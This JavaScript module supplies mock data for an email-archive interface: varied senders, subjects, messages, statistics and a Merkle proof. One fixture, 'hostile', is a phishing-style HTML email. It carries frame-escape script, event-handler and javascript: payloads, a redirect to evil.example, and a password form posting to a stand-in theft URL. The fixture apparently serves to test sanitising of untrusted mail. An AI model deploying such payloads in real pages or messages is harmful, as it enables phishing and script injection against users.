// Mail for the mock: the shapes that break layouts and parsers, in small numbers.
import { createHash } from 'node:crypto';

const sha = (text) => createHash('sha256').update(text).digest('hex');

const people = [
  ['Ann Example', 'ann@example.org'],
  ['Bob Müller', 'bob.mueller@example.com'],
  ['田中 花子', 'hanako.tanaka@example.jp'],
  ['שרה כהן', 'sara@example.co.il'],
  [null, 'no-reply@very-long-subdomain.notifications.accounting.example.net'],
  ['Émile Durand', 'emile@example.fr'],
].map(([name, email]) => ({ name, email }));

const subjects = [
  'Invoice 2024-0117 for the Hamburg office',
  'Re: Fwd: Re: Minutes of the steering committee, with the corrected annex and the table of obligations that everybody should read before Thursday because it will be decided then',
  '見積書の送付について（至急ご確認ください）',
  'הצעת מחיר לפרויקט החדש',
  null,
  'Fwd: Lunch?',
  'AW: Vertragsentwurf – Fassung 3 (Änderungen angenommen)',
  'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft',
];

const texts = [
  'Please find the invoice for January attached. The invoice is due on the 31st.\n\nKind regards\nAnn',
  'Dear all,\n\nthe minutes are below. The invoice was discussed under item 4.\n\nBob',
  'お世話になっております。見積書をお送りいたします。ご確認のほどよろしくお願いいたします。',
  'שלום, מצורפת הצעת המחיר. נא לאשר עד יום חמישי.',
];

/** Message `n` of an endless archive; always the same for the same number. */
export function hit(n) {
  const at = new Date(Date.UTC(2024, 10, 20, 15, 4) - n * 3.17 * 86_400_000);
  const known = n % 11 !== 7;
  return {
    id: `m${n}`,
    sha256: sha(`m${n}`),
    copies: n % 5 === 1 ? 3 : 1,
    date: known ? at.toISOString() : null,
    from: people[n % people.length],
    to: [people[(n + 1) % people.length]],
    subject: subjects[n % subjects.length],
    size: 2_400 + n * 917,
    attachments: n % 4 === 0 ? 2 : 0,
    places: [{ mailbox: 'ann@example.org', folder: 'INBOX', flags: ['seen'] }],
    score: null,
  };
}

/** Ranges of a word in a text, as the server gives them. */
export function marks(text, word) {
  if (!word) return [];
  const found = [];
  const low = text.toLowerCase();
  for (let at = low.indexOf(word); at >= 0; at = low.indexOf(word, at + word.length)) {
    found.push([at, at + word.length]);
  }
  return found;
}

export const text = (n) => texts[n % texts.length];

export const hostile = `<!doctype html><html><head><title>x</title>
<script>parent.document.title = 'taken'; window.top.taken = true;</script>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { background: url(https://evil.example/bg.png); font-family: serif }</style></head>
<body onload="top.taken = true"><h2 style="color:#7a1f1f">Your account is locked</h2>
<img src="https://evil.example/pixel.png" onerror="top.taken = true">
<svg onload="top.taken = true"></svg>
<form action="https://evil.example/steal" method="post"><input name="password"><button>Unlock</button></form>
<p>Press <a id="bait" href="javascript:top.taken=true">here</a> or
<a href="https://evil.example/" target="_top">there</a>.</p>
<iframe src="javascript:top.taken = true"></iframe></body></html>`;

export function message(n) {
  const head = hit(n);
  return {
    ...head,
    copies: Array.from({ length: head.copies }, (_, copy) => `m${n}-${copy}`),
    held_from: '2024-11-21T08:00:00Z',
    held_source: 'Received',
    origin: 'import of ann.mbox',
    seq: 1000 + n,
    from: [head.from],
    to: n % 8 === 0 ? people.concat(people).map((person) => ({ ...person })) : head.to,
    cc: n % 3 === 0 ? [people[2], people[3]] : [],
    bcc: [],
    reply_to: [],
    message_id: `<CAF${n}x7Yk2+verylongidentifierwithoutanyblanks0123456789abcdef@mail.example.org>`,
    places: head.places.map((place) => ({ ...place, keywords: [], delivered: head.date })),
    attachments:
      head.attachments > 0
        ? [
            { index: 0, name: 'Invoice 2024-0117.pdf', type: 'application/pdf', size: 84_211, text: 'read', reason: null },
            { index: 1, name: 'scan_of_a_page_with_a_name_that_does_not_end_soon_2024-01-17T10-22-03.tiff', type: 'image/tiff', size: 4_811_020, text: 'unknown', reason: 'encrypted' },
          ]
        : [],
    has_html: n % 2 === 0,
  };
}

/** A true Merkle tree (RFC 9162), so that the page can check what it draws. */
export function proof(seq, size) {
  const node = (left, right) => createHash('sha256').update(Buffer.concat([Buffer.from([1]), left, right])).digest();
  const leaf = (at) => createHash('sha256').update(Buffer.concat([Buffer.from([0]), Buffer.from(`leaf ${at}`)])).digest();
  const root = (from, to) => {
    if (to - from === 1) return leaf(from);
    const half = 2 ** Math.ceil(Math.log2(to - from) - 1);
    return node(root(from, from + half), root(from + half, to));
  };
  const path = (at, from, to) => {
    if (to - from === 1) return [];
    const half = 2 ** Math.ceil(Math.log2(to - from) - 1);
    return at < from + half
      ? [...path(at, from, from + half), root(from + half, to)]
      : [...path(at, from + half, to), root(from, from + half)];
  };
  return {
    verified: true,
    reason: null,
    kind: 'capture',
    time: '2024-11-21T08:00:01Z',
    seq,
    size,
    leaf: leaf(seq).toString('hex'),
    path: path(seq, 0, size).map((hash) => hash.toString('hex')),
    root: root(0, size).toString('hex'),
    checkpoint: `everpost/log/1\n${size}\n${root(0, size).toString('base64')}\n\n— everpost/log/1 Az3grlgtzPICa5OS8npVmf1Myq/5IZniMp+ZJurmRDeOoRDe4URYN7u5/Zhcyv2q1gGzGku9nTo+zyWE+xeMcTOAYQ8=\n`,
    key: 'everpost/log/1+1f3a9c02+AaW1xKcQ8mDkS0lpQk5sT0yWq1Yb0u2m5m4yq1r7v9Xc',
  };
}

export const facets = {
  sender: people.map(({ email }, at) => ({ value: email, count: 4120 - at * 611 })),
  domain: ['example.org', 'example.com', 'example.jp', 'example.net'].map((value, at) => ({ value, count: 5003 - at * 1200 })),
  year: ['2024', '2023', '2022', '2021', '2020', '2019'].map((value, at) => ({ value, count: 4400 - at * 500 })),
  type: ['pdf', 'docx', 'xlsx', 'png'].map((value, at) => ({ value, count: 900 - at * 140 })),
  mailbox: ['ann@example.org', 'bob.mueller@example.com'].map((value, at) => ({ value, count: 9001 - at * 3000 })),
  language: ['en', 'de', 'ja', 'he', 'fr'].map((value, at) => ({ value, count: 8000 - at * 1900 })),
};

export function months() {
  const found = [];
  for (let at = 0; at < 71; at += 1) {
    const month = `${2019 + Math.floor(at / 12)}-${String((at % 12) + 1).padStart(2, '0')}`;
    if (at % 17 !== 13) found.push({ month, count: Math.round(90 + at * 2.5 + 70 * Math.sin(at * 1.7)) });
  }
  return { months: found, undated: 61 };
}

export const storage = {
  messages: 128_411,
  copies: 131_902,
  raw_bytes: 9_812_440_113,
  stored_bytes: 2_634_636_230,
  saved_by_deduplication: 3_880_120_000,
  saved_by_compression: 3_827_321_883,
  index_bytes: 402_118_000,
  log_bytes: 9_120_000,
  catalog_bytes: 118_400_000,
  lag: { index: 0, log: 0, extraction: 1_204 },
  checkpoint: { size: 131_944, time: '2024-11-21T09:12:44Z' },
  mailboxes: Array.from({ length: 23 }, (_, at) => ({
    address: at === 3 ? people[4].email : `person${at}@example.org`,
    messages: 14_000 - at * 520,
    bytes: 1_200_000_000 - at * 48_000_000,
  })),
  ages: Array.from({ length: 19 }, (_, at) => ({ year: 2006 + at, messages: 800 + at * at * 55, bytes: 40_000_000 + at * at * 3_100_000 })),
  extraction: { read: 31_204, none: 8_110, unknown: 412, pending: 1_204 },
};

export const help = {
  fields: [
    ['from', 'with the word or address as its sender', 'from:ann@example.org'],
    ['to', 'with it among its recipients: To, Cc or Bcc', 'to:"legal team"'],
    ['subject', 'with the words in the subject', 'subject:(merger OR acquisition)'],
    ['filename', 'with an attachment of that name', 'filename:*.pdf'],
    ['sent', 'sent in that year, month, day or range', 'sent:2024-01..2024-03'],
    ['size', 'larger or smaller than this', 'size>5MB'],
  ].map(([name, about, example]) => ({ name, about, example })),
  operators: [
    ['merger acquisition', 'both words, anywhere, in any order'],
    ['"letter of intent"', 'these words side by side, in this order'],
    ['contract*', 'a word that begins with contract'],
    ['merger OR acquisition', 'at least one of the two'],
    ['-draft', 'not this word'],
  ].map(([text, about]) => ({ text, about })),
};

export { people };
